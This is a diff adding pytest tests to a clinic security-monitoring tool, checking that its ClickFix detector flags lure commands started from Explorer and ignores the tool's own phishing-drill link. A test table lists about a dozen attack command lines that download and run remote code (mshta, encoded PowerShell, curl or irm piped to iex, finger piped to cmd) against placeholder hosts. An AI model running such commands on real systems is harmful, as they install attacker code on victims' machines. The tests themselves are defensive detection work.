@@ -3,7 +3,10 @@ met exactly, bursts across bucket and day boundaries, one person written several
 the command shapes ClickFix lures use against the drill's inert link. Every test builds its
 own events at fixed times and runs the real detectors on DuckDB."""
 
+from datetime import timedelta
 from pathlib import Path
+
+import pytest
 
 from clinicshield.monitoring.core.detectors.context import DetectionContext
 from clinicshield.monitoring.core.detectors.events import event_table
@@ -11,8 +14,11 @@ from clinicshield.monitoring.core.detectors.failures import (
     detect_brute_force,
     detect_password_spray,
 )
+from clinicshield.monitoring.core.detectors.process_rules import detect_process_rules
 from clinicshield.monitoring.core.detectors.settings import DetectionSettings
 from clinicshield.monitoring.core.detectors.unusual_access import detect_off_hours
+from clinicshield.monitoring.core.sigma_rules import load_rules
+from clinicshield.simulations.core.landing import clipboard_payload
 from tests.monitoring.ingest.helpers import run as ingest_file
 from tests.monitoring.ingest.helpers import write
 
@@ -173,3 +179,87 @@ def test_a_spray_counts_people_not_spellings(tmp_path: Path, con):
     auth = event_table(con, data_dir, ORG, "auth")
     ctx = context("2025-02-03 00:00", "2025-02-04 00:00")
     assert detect_password_spray(con, auth, ctx) == []  # six people, not eight
+
+
+# --- ClickFix: what lures run, against the drill's inert link ---------------------------
+
+WIN = "C:\\Windows\\System32\\"
+POWERSHELL = WIN + "WindowsPowerShell\\v1.0\\powershell.exe"
+RUNMRU = r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a"
+LURES = {
+    "mshta": (WIN + "mshta.exe", "mshta https://verify-human.example/captcha.hta"),
+    "powershell -enc": (POWERSHELL, "powershell -w 1 -ep bypass -enc SQBFAFgAIAAoAGkAdwByACkA"),
+    "powershell -e": (POWERSHELL, "powershell -nop -e SQBFAFgAIAAoAGkAdwByACkA"),
+    "curl | iex": (POWERSHELL, 'powershell -c "curl.exe -s https://cdn.example/a | iex"'),
+    "irm | iex": (POWERSHELL, 'powershell -c "irm cdn.example/a|iex" # ✅ Verification ID 8812'),
+    "cmd curl": (WIN + "cmd.exe", "cmd /c curl -s -o %TEMP%\\a.exe https://x.example/a.exe"),
+    "finger": (WIN + "finger.exe", "finger verify@captcha.example"),
+    "cmd | finger": (WIN + "cmd.exe", 'cmd /c "finger ok@203.0.113.7 | cmd"'),
+    "webdav hta": (WIN + "mshta.exe", "mshta \\\\evil.example@SSL\\DavWWWRoot\\v.hta"),
+    "conhost --headless": (
+        WIN + "conhost.exe",
+        'conhost.exe --headless powershell -w h -c "iex(irm https://x.example/a)"',
+    ),
+    "conhost --headless cmd": (
+        WIN + "conhost.exe",
+        'conhost --headless cmd /c "curl x.example|cmd"',
+    ),
+    "powershell -ec": (POWERSHELL, "powershell -nop -ec SQBFAFgAIAAoAGkAdwByACkA"),
+    "mshta vbscript": (
+        WIN + "mshta.exe",
+        'mshta vbscript:Execute("CreateObject(""WScript.Shell"")")',
+    ),
+}
+
+
+def explorer_started(minute: int, image: str, command: str) -> dict:
+    moment = at("2025-02-03 09:00") + timedelta(minutes=minute)
+    return {
+        "ts": moment,
+        "host": "reception-pc",
+        "user": "ana",
+        "event_code": "sysmon:1",
+        "image": image,
+        "parent_image": WIN.replace("System32\\", "") + "explorer.exe",
+        "command_line": command,
+        "record_ref": f"sysmon.evtx {minute}",
+    }
+
+
+def clickfix_commands(store, con, rows) -> list[str]:
+    store("process", rows)
+    ctx = context("2025-02-03 00:00", "2025-02-04 00:00", sigma_rules=tuple(load_rules([]).rules))
+    findings = detect_process_rules(con, store.table("process"), ctx)
+    return sorted(f.command_line for f in findings if f.kind == "clickfix")
+
+
+@pytest.mark.parametrize("shape", sorted(LURES))
+def test_explorer_starting_a_lure_shape_is_clickfix(store, con, shape):
+    image, command = LURES[shape]
+    assert clickfix_commands(store, con, [explorer_started(1, image, command)]) == [command]
+
+
+@pytest.mark.parametrize("language", ["en", "es"])
+def test_the_drills_link_opened_from_the_run_box_is_no_code_execution(store, con, language):
+    # What the drill copies; Win+R hands a link to the browser, which is no scripting host.
+    payload = clipboard_payload("https://clinicshield.example", "tok" * 8, "clickfix", language)
+    edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
+    browser = explorer_started(1, edge, f'"{edge}" --single-argument {payload.text}')
+    assert clickfix_commands(store, con, [browser]) == []
+    # The Run box's history does hold a web link: the drill's own token credits it to the
+    # campaign (test_clickfix_simulation.py); no LOLBin word hides in the decoy label.
+    history = {**browser, "event_code": "sysmon:13", "image": None, "command_line": None}
+    history.update(target_object=RUNMRU, details=payload.text + "\\1", event_type="SetValue")
+    store("process", [history])
+    ctx = context("2025-02-03 00:00", "2025-02-04 00:00", sigma_rules=tuple(load_rules([]).rules))
+    findings = detect_process_rules(con, store.table("process"), ctx)
+    assert [(f.kind, [r["title"] for r in f.evidence["rules"]]) for f in findings] == [
+        (
+            "clickfix",
+            [
+                "ClickFix - Run Dialog History Holds a Web Link, an Outside Share or a "
+                "Scripting Binary"
+            ],
+        )
+    ]
+    assert "tok" * 8 in findings[0].command_line
